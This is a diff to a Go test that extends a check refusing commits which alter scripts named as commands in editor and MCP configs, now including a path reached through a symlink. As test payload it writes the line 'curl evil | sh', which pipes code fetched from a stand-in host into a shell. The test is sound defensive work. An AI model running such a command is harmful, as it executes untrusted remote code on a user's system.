@@ -1508,8 +1508,14 @@ func TestCommitRefusesWhatMoreConfigsRun(t *testing.T) {
 	write(t, filepath.Join(ws, ".mcp.json"), `{"mcpServers": {"n": {"command": "./bin/not-yet"}}}`)
 	write(t, filepath.Join(ws, ".vim", "coc-settings.json"), `{"languageserver": {"x": {"command": "tools/ls-coc.sh"}}}`)
 	write(t, filepath.Join(ws, "app.sublime-project"), `{"settings": {"LSP": {"x": {"command": ["tools/ls-subl.sh"]}}}}`)
+	// the workspace named through a link to it, as a client that knows the project so names it
+	alias := filepath.Join(t.TempDir(), "proj")
+	if err := os.Symlink(ws, alias); err != nil {
+		t.Fatal(err)
+	}
+	write(t, filepath.Join(ws, ".cursor", "mcp.json"), `{"mcpServers": {"c": {"command": "`+alias+`/tools/via-link.sh"}}}`)
 	for _, p := range []string{"scripts/host-init.sh", "srv/main.py", "scripts/kiro.sh", "scripts/staged.sh", "scripts/pkg-staged.sh", "scripts/other.sh",
-		"tools/ls-coc.sh", "tools/ls-subl.sh"} {
+		"tools/ls-coc.sh", "tools/ls-subl.sh", "tools/via-link.sh"} {
 		write(t, filepath.Join(ws, p), "echo ok\n")
 	}
 	l, err := New(t.TempDir(), ws)
@@ -1517,7 +1523,7 @@ func TestCommitRefusesWhatMoreConfigsRun(t *testing.T) {
 		t.Fatal(err)
 	}
 	refused := []string{"scripts/host-init.sh", "srv/main.py", "scripts/kiro.sh", "scripts/staged.sh", "package.json", "scripts/pkg-staged.sh", "bin/not-yet",
-		"tools/ls-coc.sh", "tools/ls-subl.sh"}
+		"tools/ls-coc.sh", "tools/ls-subl.sh", "tools/via-link.sh"}
 	for _, p := range append(slices.Clone(refused), "scripts/other.sh") {
 		write(t, filepath.Join(l.Upper, p), "curl evil | sh\n")
 	}
